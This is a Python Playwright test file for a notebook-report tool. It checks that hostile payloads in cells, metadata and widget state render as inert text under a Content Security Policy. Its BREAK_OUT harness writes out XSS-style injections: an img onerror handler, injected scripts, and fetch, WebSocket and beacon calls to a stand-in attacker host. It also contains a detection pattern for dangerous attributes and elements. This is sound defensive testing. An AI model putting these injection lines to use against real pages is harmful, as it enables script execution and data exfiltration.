"""A report made from hostile data runs no script of it and asks for nothing, wherever the data stands."""

from __future__ import annotations

from pathlib import Path

import pytest
from bias_fakes import fake_bias
from flow_fakes import fake_flow
from hostile import AWAY, OWNED, PAYLOADS, cells, figure_of, tampered
from kinds import KINDS
from page_log import PageLog
from playwright.sync_api import Page, expect
from report_pages import markdown, notebook, saved, valid, with_widgets
from shown_notebook import notebook_of, saved_model, shown_cell
from strip_fakes import fake_attribution
from test_report_offline import assert_quiet, opened
from widget_fakes import fake_analysis

import nb_sae as ns
from nb_sae.facts import KEY

# What a page must not hold: handlers, addresses that run or fetch, elements that frame, load or send.
FOUND = """() => {
  const out = [];
  const shown = [...document.querySelectorAll('*')].filter((one) => !one.closest('head'));
  for (const one of shown) {
    const name = one.localName;
    for (const { name: key, value } of one.attributes) {
      if (key.startsWith('on')) out.push(`${name} ${key}`);
      if (/^(href|src|xlink:href|srcset|action|formaction|data|poster|background)$/.test(key)) {
        const fine = name === 'a' ? /^(https?:|mailto:|#)/ : /^(data:image\\/|blob:|#)/;
        if (value && !fine.test(value)) out.push(`${name} ${key}=${value.slice(0, 60)}`);
      }
      if (key === 'style' && /evil|expression|javascript/.test(value)) out.push(`${name} style=${value.slice(0, 60)}`);
    }
    if (/^(iframe|frame|object|embed|form|base|meta|link|video|audio|template|portal)$/.test(name)) out.push(name);
    if (name === 'script' && !one.type && !one.closest('body')) out.push('script');
  }
  return out;
}"""

# What would happen if markup of the data came into the page as it is.
BREAK_OUT = """async ([owned, away]) => {
  const add = (html) => {
    const box = document.createElement('div');
    box.innerHTML = html;
    document.body.append(box);
  };
  add(`<img src=x onerror="${owned}"><audio src="${away}/s.mp3" autoplay></audio>`);
  add(`<img src="${away}/a.png"><iframe src="${away}/f"></iframe><object data="${away}/o"></object>`);
  add(`<div style="background:url(${away}/b.png);height:9px">x</div>`);
  for (const text of [owned, null]) {
    const script = document.createElement('script');
    if (text) script.textContent = text; else script.src = `${away}/s.js`;
    document.body.append(script);
  }
  const sheet = document.createElement('link');
  sheet.rel = 'stylesheet';
  sheet.href = `${away}/s.css`;
  document.head.append(sheet);
  const refused = [];
  await fetch(`${away}/x`).catch(() => refused.push('fetch'));
  // From a timer: what the debugger calls may evaluate anything.
  setTimeout(() => { try { new Function('globalThis.owned = 2')(); } catch { refused.push('eval'); } });
  try { new WebSocket(`${away.replace('https', 'wss')}/w`); } catch { refused.push('socket'); }
  navigator.sendBeacon(`${away}/beacon`, 'x');
  await new Promise((resolve) => setTimeout(resolve, 300));
  globalThis.refused = refused;
}"""


def assert_untouched(page: Page, log: PageLog, report: Path, title: str) -> None:
    assert page.evaluate("() => globalThis.owned") is None
    assert page.evaluate("() => ({}).polluted") is None
    assert page.evaluate("() => typeof globalThis.nbsaeReport.ready.then") == "function"
    assert page.evaluate(FOUND) == []
    assert page.url == report.as_uri()
    assert page.title() == title
    assert log.requests == []
    assert log.dialogs == []


@pytest.fixture(scope="module")
def everywhere(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every payload in every place of one notebook, titled with one of them."""
    folder = tmp_path_factory.mktemp("hostile")
    texts = [text for text in PAYLOADS.values() if len(text) < 1000]
    figures = [figure_of(texts[start : start + 13]) for start in range(0, len(texts), 13)]
    made = notebook(*(cell for payload in PAYLOADS.values() for cell in cells(payload)), *figures)
    html = {"model_name": "HTMLModel", "state": {"value": PAYLOADS["image error"]}}
    with_widgets(made, **{"html-widget": html})
    made.metadata["title"] = made.metadata["authors"] = [{"name": PAYLOADS["script"]}]
    made.metadata[KEY] = {"device": PAYLOADS["script"], "models": [{"name": one} for one in PAYLOADS.values()]}
    made.metadata["language_info"] = {"version": PAYLOADS["end of script"], "name": "python"}
    return ns.report(saved(folder, made), title=PAYLOADS["end of title"])


def test_every_payload_in_every_place_of_a_notebook_is_only_shown(page: Page, log: PageLog, everywhere: Path):
    assert len(PAYLOADS) >= 50
    opened(page, log, everywhere)
    page.evaluate("() => document.querySelectorAll('main details').forEach((one) => { one.open = true; })")
    assert page.locator(".main-svg").count() >= 4
    page.locator(".nsewdrag").first.hover(force=True)
    assert_untouched(page, log, everywhere, PAYLOADS["end of title"])
    assert [error for error in log.errors if "Refused" in error or "Content Security" in error] == []
    # Shown, not dropped: what is text stands there as text.
    for name in ("image error", "script", "end of script", "template words"):
        expect(page.locator("pre.stderr", has_text=PAYLOADS[name]).first).to_be_visible()
    valid(everywhere.with_suffix(".shared.ipynb"))


def hostile_dashboards() -> list:
    texts = [text for name, text in PAYLOADS.items() if name not in ("very long", "lone surrogate")]
    names = dict(enumerate(texts))
    flow = fake_flow(3, 64, modules=False)
    site = flow.sites[1]
    inside = fake_analysis("text", d_sae=64, hostile=True)
    return [
        ns.FeatureDashboard(fake_analysis("patches", hostile=True), names=names, latent=0),
        ns.FeatureDashboard(fake_analysis("text", hostile=True), names=names, latent=0),
        ns.BiasDashboard(fake_bias(len(texts), groups=(texts[0], texts[1]), names=tuple(texts))),
        ns.AttributionStrip(fake_attribution(), tokens=texts[:19], names=names),
        ns.FlowDashboard(flow, {site: inside}, names={site: names}, start=(site, 1)),
    ]


def test_dashboards_show_every_payload_as_text(page: Page, log: PageLog, tmp_path: Path):
    made = hostile_dashboards()
    report = ns.report(saved(tmp_path, notebook_of(made, markdown("# Hostile names"))))
    opened(page, log, report)
    assert page.evaluate("() => window.nbsaeReport.mounted") == len(made)
    for root in page.locator(".nbsae-live > *").all():
        search = root.locator("input[type=search], input[type=text], input:not([type])").first
        if search.is_visible():
            search.fill("<")
            page.keyboard.press("Enter")
    page.wait_for_timeout(200)
    expect(page.locator("main")).to_contain_text(PAYLOADS["image error"])
    assert_untouched(page, log, report, "Hostile names")
    assert_quiet(page, log)


def test_tampered_states_draw_or_say_why_and_run_nothing(page: Page, log: PageLog, tmp_path: Path):
    """Somebody else's notebook may hold any state: every string of it ends in a payload."""
    made, models = [], {}
    kinds = ("feature-image", "bias", "attribution-text", "flow")
    for kind, payload in zip(kinds, PAYLOADS.values(), strict=False):
        dashboard = KINDS[kind].make()
        model = saved_model(dashboard)
        scripts = {name: model["state"][name] for name in ("_esm", "_css")}
        model["state"] = tampered(model["state"], payload) | scripts
        models[str(dashboard.model_id)] = model
        made.append(shown_cell(dashboard))
    report = ns.report(saved(tmp_path, with_widgets(notebook(markdown("# Tampered"), *made), **models)))
    opened(page, log, report)
    views = page.locator(".nbsae-view")
    for number in range(len(made)):
        view = views.nth(number)
        assert view.evaluate("one => one.innerText.length > 20 || one.querySelector('img:not([hidden])') !== null")
    assert_untouched(page, log, report, "Tampered")


def test_the_policy_of_the_page_holds_by_itself(page: Page, log: PageLog, everywhere: Path):
    """If the cleaning of markup missed something, the page would still run no script of it and fetch nothing."""
    opened(page, log, everywhere)
    sent: list[str] = []  # the page log names what was asked for; this, what got past the policy
    page.route("**/*", lambda route: (sent.append(route.request.url), route.abort()))
    page.evaluate(BREAK_OUT, [OWNED, AWAY])
    assert page.evaluate("() => globalThis.owned") is None
    assert {"fetch", "eval"} <= set(page.evaluate("() => globalThis.refused"))
    assert [url for url in sent if "evil" in url] == []
    assert sum("Content Security Policy" in error for error in log.errors) >= 5
